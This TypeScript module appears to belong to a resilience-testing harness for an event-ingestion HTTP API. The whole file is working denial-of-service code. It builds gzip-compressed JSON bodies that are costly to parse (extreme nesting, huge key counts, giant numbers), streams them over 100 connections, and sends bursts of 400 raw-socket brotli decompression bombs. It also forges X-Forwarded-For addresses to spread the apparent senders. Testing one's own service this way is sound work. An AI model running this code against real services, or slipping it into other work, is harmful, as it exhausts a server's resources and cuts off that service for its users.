import { Agent, request } from 'node:http';
import { connect } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { brotliCompressSync, gzipSync } from 'node:zlib';
import type { Attack, Target } from './attack.ts';

const CONNECTIONS = 100;
const BYTES = 5_000_000;

/** Returns as many of `units` as fit into the largest body, between `head` and `tail`. */
function fill(head: string, unit: (index: number) => string, tail: string, separator = ','): string {
  const units: string[] = [];
  let length = head.length + tail.length;
  for (let index = 0; ; index += 1) {
    const next = unit(index);
    length += next.length + separator.length;
    if (length > BYTES) return head + units.join(separator) + tail;
    units.push(next);
  }
}

const nest = (open: string, inner: string, close: string, depth: number): string =>
  open.repeat(depth) + inner + close.repeat(depth);

/** Bodies of 5 MB that are a few kilobytes once compressed, or that are expensive to turn into objects, by name. */
export const BOMBS: Readonly<Record<string, () => string>> = {
  'a million empty events': () => fill('{"events":[', () => '{}', ']}'),
  'a list as wide as it can be in an unknown field': () => fill('{"events":[],"more":[', () => '0', ']}'),
  'one event with half a million properties': () =>
    fill('{"events":[{"properties":{', (index) => `"${index.toString(36)}":1`, '}}]}'),
  'the same key half a million times': () => fill('{"events":[{"properties":{', () => '"a":1', '}}]}'),
  'half a million keys beside the events': () =>
    fill('{"events":[],', (index) => `"${index.toString(36)}":1`, '}'),
  'brackets nested two million deep': () => `{"events":${nest('[', '', ']', BYTES / 2 - 10)}}`,
  'objects nested half a million deep': () => `{"events":[${nest('{"a":', '1', '}', BYTES / 6 - 10)}]}`,
  'a thousand events of empty objects': () => {
    const event = `{"properties":{"a":[${Array.from({ length: 1_600 }, () => '{}').join(',')}]}}`;
    return `{"events":[${Array.from({ length: 1_000 }, () => event).join(',')}]}`;
  },
  'a number with five million digits': () => `{"events":[${'9'.repeat(BYTES - 20)}]}`,
  'a text of escapes': () => `{"events":["${'\\u0041'.repeat(BYTES / 6 - 10)}"]}`,
};

/** Sends one body with the key. Resolves with the status, or with `closed` if there is no answer. */
function send(target: Target, agent: Agent, body: Buffer, signal: AbortSignal): Promise<string> {
  const headers = {
    authorization: `Bearer ${target.clientKey}`,
    'content-type': 'application/json',
    'content-encoding': 'gzip',
    'content-length': body.length,
  };
  return new Promise((resolve) => {
    const sent = request(`${target.url}/v1/events`, { method: 'POST', agent, headers, signal }, (answer) => {
      answer.resume();
      answer.on('close', () => resolve(String(answer.statusCode)));
    });
    sent.on('error', () => resolve('closed'));
    sent.end(body);
  });
}

/** 43 bytes that a decoder needs 4 MB for before it knows that they are 5 MB. */
export const createBrotliBomb = (): Buffer =>
  brotliCompressSync(Buffer.from(`{"events":[],"x":"${'a'.repeat(BYTES)}"}`));

/** How many are sent in a burst, and how long their senders stay: some wait for the answer, others are gone. */
export type Burst = { count: number; stayMs: number; addressOf?: (index: number) => string };

/** Sends the last byte of many brotli bodies together, then disconnects. Returns how many were answered. */
export async function sendBurst(
  { url, clientKey }: Pick<Target, 'url' | 'clientKey'>,
  { count, stayMs, addressOf = (index) => `203.0.113.${index % 250}` }: Burst,
): Promise<number> {
  const bomb = createBrotliBomb();
  const { hostname, port, host } = new URL(url);
  let answered = 0;
  const sockets = Array.from({ length: count }, (_, index) => {
    const socket = connect({ host: hostname, port: Number(port) });
    socket.on('error', () => undefined);
    socket.once('data', () => {
      answered += 1;
    });
    const head = [
      'POST /v1/events HTTP/1.1',
      `Host: ${host}`,
      `X-Forwarded-For: ${addressOf(index)}`,
      `Authorization: Bearer ${clientKey}`,
      'Content-Type: application/json',
      'Content-Encoding: br',
      `Content-Length: ${bomb.length}`,
    ];
    socket.write(`${head.join('\r\n')}\r\n\r\n`);
    socket.write(bomb.subarray(0, -1));
    return socket;
  });
  await sleep(500);
  for (const socket of sockets) socket.write(bomb.subarray(-1));
  await sleep(stayMs);
  for (const socket of sockets) socket.destroy();
  return answered;
}

const BURST = 400;

/** Bursts of brotli bombs, by turns from senders that wait for an answer and from ones that disconnect. */
async function sendBursts(target: Target, signal: AbortSignal): Promise<number> {
  let answered = 0;
  for (let round = 0; !signal.aborted; round += 1)
    answered += await sendBurst(target, { count: BURST, stayMs: round % 2 === 0 ? 50 : 3_000 });
  return answered;
}

/** Small compressed bodies that cost as much as a body can, from many connections of one address. */
export const eventBombs: Attack = {
  name: 'event bombs',
  async run(target, signal) {
    const bodies = Object.values(BOMBS).map((create) => gzipSync(create()));
    const agent = new Agent({ keepAlive: true, maxSockets: CONNECTIONS });
    const answers = new Map<string, number>();
    let next = 0;
    const sendMany = async () => {
      while (!signal.aborted) {
        const body = bodies[next++ % bodies.length] as Buffer;
        const answer = await send(target, agent, body, signal);
        answers.set(answer, (answers.get(answer) ?? 0) + 1);
        // A refused connection must not become a loop without a pause.
        if (answer === 'closed') await new Promise((resolve) => setTimeout(resolve, 100));
      }
    };
    const many = Promise.all(Array.from({ length: CONNECTIONS }, sendMany));
    const answered = await sendBursts(target, signal);
    await many;
    agent.destroy();
    const statuses = [...answers].map(([answer, count]) => `${answer}: ${count}`).join(', ');
    return `event bombs on ${CONNECTIONS} connections: ${statuses}; bursts of brotli: ${answered} answered`;
  },
};
